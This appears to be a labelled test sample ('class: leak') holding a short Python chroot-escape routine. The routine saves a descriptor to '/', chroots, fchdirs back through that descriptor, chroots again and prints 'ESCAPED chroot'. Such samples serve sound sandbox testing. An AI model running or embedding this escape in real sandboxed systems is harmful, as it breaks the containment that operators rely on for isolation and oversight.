# class: leak
# Changes its root, and back again.
import os
old=os.open("/",os.O_RDONLY); os.chroot("."); os.fchdir(old); os.chroot("."); print("ESCAPED chroot")
